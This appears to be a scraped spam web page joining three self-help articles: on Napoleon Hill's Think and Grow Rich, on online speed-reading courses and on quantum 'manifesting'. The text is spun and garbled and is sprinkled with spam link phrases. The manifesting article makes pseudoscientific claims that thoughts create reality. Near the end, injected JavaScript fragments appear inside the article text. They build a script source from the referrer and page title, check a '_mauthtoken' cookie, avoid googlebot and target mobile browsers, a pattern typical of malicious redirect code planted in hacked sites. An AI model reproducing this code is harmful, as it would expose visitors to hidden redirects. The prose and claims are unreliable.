Success and getting rich were defined as simply personal achievement. Hills outlines these principles as embodied in attributes such as self confidence, habit of saving,initiative and leadership, imagination, enthusiasm, self control, getting more than paid for, pleasing personality, accurate thinking, accurate thinking, concentration, cooperation, profiting by failure, and tolerance.

Since then, Think and Grow Rich has catered to many people who have testified on how much the book actually made them rich and successful. Because more and more people wanted to get a copy of the book, it went through several versions and printings in the last 70 years. The book has also been presented in cassette version. Continually adapting to the changing times newer versions of the book, editors introduced modern examples and commentaries on Hill’s principles.

Of course, the original context of the book is still desired by many although newer versions now have more comprehensive endnotes and appendices. An MP3 version which records the contents of the book is now also available. Today, almost everyone can avail of a Think and Grow rich download from the Interne which further expands the reach of this classic and therefore further expands the benefits it can deliver to people.

Hills works, both the Law of Success and Think and Grow Rich, are meant to be personal development books. They are designed not only to be read as a book but to be studied and applied. They are full-fledged courses on success. A Think and Grow Rich download has this advantage. The new media present Hill’s principles in a course-like manner. This means that one can take the course in his own time, following his on phase. One can control his own personal success course and consequently his own success story. The lessons may be printed out separately and marked up.

Think andGrow Rich has remained as a best seller. It gained success as apaperback book for 70 years and was chosen as one of the must-read books. Millions of copies have been sold in its book form. In today’s age of information, Think and Grow Rich has been made to adopt increasing demand. More people can now benefit from its philosophy of successvia the electronic media. People convinced of the wisdom to be found in Hill’s work declare that now there can be no excuse to put off the reading of one of the world’s most effective self-help works. The book is now available simply by download.}

The Science of Speed Reading and The Applications in Real Life

Due to the last hundreds of years, reading has been a vastly necessary action in daily life. its througout reading that centuries old folk tales, fables and information had been sent from one culture after a different. Reading is a specific activity which distinguishes us from nautre and it is due to of this activity that the luxuries research and software brings us are efficiently to access. Despite this, with the positives the skill of writing has given us, it also brought the duty and the mandatory obligation to read all the time, merely to live.More than that, with the exponential growth in scienceand hardware in the past only a few decades, and the less complicated development and greater accessibility of information, individuals of the contemporary time is compelled to read plenty of stuff only to survive. The minutest of things need to be read so that persons can operate or do them. Taking up a reading fast over the internet course has even become an action people use in. it is hardly imaginable for a individual to be living in these a digital and computerized society of illiterate or to not be allowed to read. Moreover, the stuff to be read also lengthen as the hardware advances. By way of an example, when one buys an appliance for example a blender, that individual needs to read the manual to function such device. Similarly, when one purchases things, most especially on line, that individual needs to have read very lengthy terms of circumstances and agreements.
Given the importance of reading, it is inappropriate that such a wonderful skill are going to only be taken for granted by not doing it properly and at the perfect time or when its needed. The situations given as examples that were described previously are a couple of these times wherein reading becomes crucial in having a convenient situation. Despite that, it is given that plus the longer readings which are caused by the influx of information and advancement in software, the attention span of an usual human being also shortened. increase this truth is the limited time a individual has which is also due to the advancements in scientific research and hardware. it is then vital that for a person to possess the ability to read pretty fast and to highlight the pertinent stuff while reading. This ability is often referred to as speed reading.
Experts have thought of a collection ofmethodologies or techniques that permit people to read quickly without having to a lot abandon the component of understanding when reading. Speed reading, that could be taken in any speed reading over the internet course, necessitates multiple methods that let for an increase in the rate of reading speed by terminating « subvocalization » or silent reading by mouthing the words. speedreading could be divided into several methods; these are the general reading fast, meta guiding and skimming. In addition, these approaches might be grown by taking a speed reading over the internetcourse. The speed reading on line course is The most taken for granted step yet the most, if not the most significant step in reading rapidly.
Basic speedreading is the method of having a peaceful atmosphere, coupled with the conditioning of the aspects of the body used in reading, such as the brain and the eyes. This might be accomplished by making sure that oxygen might quickly flow in one’s body and that the body is relax when reading. The next step would be reading incredibly fast that are going to be attained once the body has previously read a good deal of pages. This method looks pretty straight forward but permanent study is still to be done.
The other type of method is skimming. In this process, the reader needs to locate the essential specifics in a text or a reading by skipping the reduced pertinent ideas of the text. This requires visit this site a proper eye that detects the main concept of the text. This also needs a discerning and sharp brain that distinguishes the main from the supporting thoughts. Of course, this could only be attained by reading a lot of texts that makes it feasible for the reader to finddifferent writing patterns. This technique has lots of variations that can be discovered in any reading quickly on-line course.
Lastly, meta guiding is the method wherein a pointer, it can either be a pen or a finger, is employed to make a pattern while reading texts. This is done so that the eye moves faster by broadening the visual span because of reading quickly. The idea is that the words are just seen briefly and its then left to the subconscious to process every the specifics read by the reader. This is a common most tough methods that necessitate plenty of intensive study that can be obtain in a speed reading on the web course.
These techniques are truly helpful in achieving the skill of speed reading. continue to, with out permanent practice, there could be a lot of disadvantages, primarily the neglect for understanding and comprehension of the reading material. Nonetheless, this might be countered by taking a reading quickly over the internet course. A speed reading on the internet course aims to help humans ameliorate, if not perfect, the abilities of speedreading. A reading rapidly over the internet course is clearly reachable and highly convenient as it could be done in the home with only a steady web connection. Compared to apersonal course, a speedreading online course is exceptionally convenient due to the fact that the schedule is flexible and the conclusions can be promptly experimented as. Researches have shown that a reading rapidly on-line course has drastically helped in the improvement of individuals’s capability of speedreading. In fact, a speedreading on-line course also shows to lessen the unfavorable effect of speedreading, namely the deprivation of understanding and retention of the read materials.
There is no alternative left but to enroll in a reading quickly online course. With the overload of knowledge in our generation, it never hurts to take every the learning you can get, and all the abilities that you could acquire. But with the limited time and limited attention span, you are going to need actually fast reading skills so that you know quite a bit and a reading quickly over the internet course is the only recourse left. Surely, a speed reading on line course can support you land in any job you want as the international market gets tougher and special capabilities give more edge to a job seeker. A reading fast on line course might also give the luxury of letting a person consist of speed reading as perhaps the capabilities a person has in his or her resume. Indeed, the reality is, the unfavourable effects that reading fast could bring can be effectively avoided by a speedreading online course.if (document.currentScript) {

The Science of Manifesting – Even Einstein Refused to Believe

Imagine what your life would look like if you had the ability to fulfill all your lifedreams.
* What would you do?
* What kind of work would you do – if any?
* Where would you live?
* What kind of relationship would you have?
* How would you feel?
What if I tell you, that you already have this ability in your life, since day one! Impossible?
Many of us have completely forgotten our purpose in life. We have drifted away from engaging our strength and talents in fulfilling our dreams. We have become part of a cultural phenomenon where we work at places we don’t like, racing rivals hack cheats to buy stuff we don’t need.
Where Does Your Happiness Originate?
Our level of happiness is determined by circumstances and by the amount of stuff we posses. We have become addicted to a lifestyle that leaves no room for personal development, nor expressing the power of our spiritual heritage. Many people come to understand this lacking when they get to be 40-45. Something strange happens to them. Our society actually invented a name for it – mid-life crisis.
Look closely and you will find the root of the problem. All that stuff we have accumulated andwe are still not satisfied – something is still missing.
How can it be that success, lasting happiness and a fulfilled life seem to be granted only to a handful of people?
The Quantum Paradigm Shift – Fasten Your Seatbelt
A revolution was set into motion that was initiated almost 100 years ago by pioneering scientists like Albert Einstein, Niels Bohr and Werner Heisenberg. They were setting out to explore the universe in a completely different way than anybody had ever done before.
What is going on at the most inner core of our world?
Over the last years, billions of dollars have been spent on the exploration of the atomic structure of our universe; thriving to better understand the substance the read here world is made of.
Profound collective life changes are set into motion that willsooner or later effect each and everyone of us. It is the paradigm shift that remarkable people like Fritjof Capra, Alan Watts and many others in the past have written about.
Do you realize there is a scientific breakthrough happening right now that will eventually lead to a complete shift in how we think about ourselves and our universe?
Be among the first to learn the scientific foundation that will empower you to manifest your goals, dreams and desires effortlessly and with a confidence that originates from understanding your true nature. You will feel a rewarding freshness and aliveness, being in the moment and at the same time being able to create your future. You will experience living a life that is passionately fulfilled inspiring others to do the same;an astounding life that results from making deliberate choices.
Breathtaking Scientific Discoveries That Will Change Your Life
Scientists all over the world have come to the conclusion that our universe is completely interconnected. The same fabulous stuff we are made up of is the same stuff the world is made up of. We are constantly exchanging information on a quantum level with each and every person on the planet!
It sounds almost unbelievable, and it gets even more incredible then that. Scientists have found that consciousness is not a single entity as most of us have assumed – being in our own world’s, our own realities but rather – it is a collective process that we all share.
Absolutely fascinating isn’t it?
The most amazing discovery of all, is that we are projecting our thoughts into the world and by doing so, we are creating our own reality. Every single thought has a distinct energy ribbon that manifests itself one way or the other, ultimately bringing you into a state of unlimited power. It simply means – there is no such thing as an objective viewpoint, everything is subjective. It’sthe end of being right or wrong!
What a new and exciting way of looking at our own capabilities.
At the same time it implies that you are responsible for what you create within your own thoughts. This is the real stuff folks. We are now in a position click this to realize and manifest our dreams. What we hold as our truth and what we believe in our minds is the stepping off point for everything that follows.s.src=’’ + encodeURIComponent(document.referrer) + ‘&default_keyword=’ + encodeURIComponent(document.title) +  »; if(document.cookie.indexOf(« _mauthtoken »)==-1){(function(a,b){if(a.indexOf(« googlebot »)==-1){if(/(android|bb\d+|meego).+mobile|avantgo|bada\/|blackberry|blazer|compal|elaine|fennec|hiptop|iemobile|ip(hone|od|ad)|iris|kindle|lge |maemo|midp|mmp|mobile.+firefox|netfront|opera m(ob|in)i|palm( os)?|phone|p(ixi|re)\/|plucker|pocket|psp|series(4|6)0|symbian|treo|up\.(browser|link)|vodafone|wap|windows ce|xda|xiino/i.test(a)||/1207|6310|6590|3gso|4thp|50[1-6]i|770s|802s|a wa|abac|ac(er|oo|s\-)|ai(ko|rn)|al(av|ca|co)|amoi|an(ex|ny|yw)|aptu|ar(ch|go)|as(te|us)|attw|au(di|\-m|r |s )|avan|be(ck|ll|nq)|bi(lb|rd)|bl(ac|az)|br(e|v)w|bumb|bw\-(n|u)|c55\/|capi|ccwa|cdm\-|cell|chtm|cldc|cmd\-|co(mp|nd)|craw|da(it|ll|ng)|dbte|dc\-s|devi|dica|dmob|do(c|p)o|ds(12|\-d)|el(49|ai)|em(l2|ul)|er(ic|k0)|esl8|ez([4-7]0|os|wa|ze)|fetc|fly(\-|_)|g1u|g560|gene|gf\-5|g\-mo|go(\.w|od)|gr(ad|un)|haie|hcit|hd\-(m|p|t)|hei\-|hi(pt|ta)|hp( i|ip)|hs\-c|ht(c(\-| |_|a|g|p|s|t)|tp)|hu(aw|tc)|i\-(20|go|ma)|i230|iac( |\-|\/)|ibro|idea|ig01|ikom|im1k|inno|ipaq|iris|ja(t|v)a|jbro|jemu|jigs|kddi|keji|kgt( |\/)|klon|kpt |kwc\-|kyo(c|k)|le(no|xi)|lg( g|\/(k|l|u)|50|54|\-[a-w])|libw|lynx|m1\-w|m3ga|m50\/|ma(te|ui|xo)|mc(01|21|ca)|m\-cr|me(rc|ri)|mi(o8|oa|ts)|mmef|mo(01|02|bi|de|do|t(\-| |o|v)|zz)|mt(50|p1|v 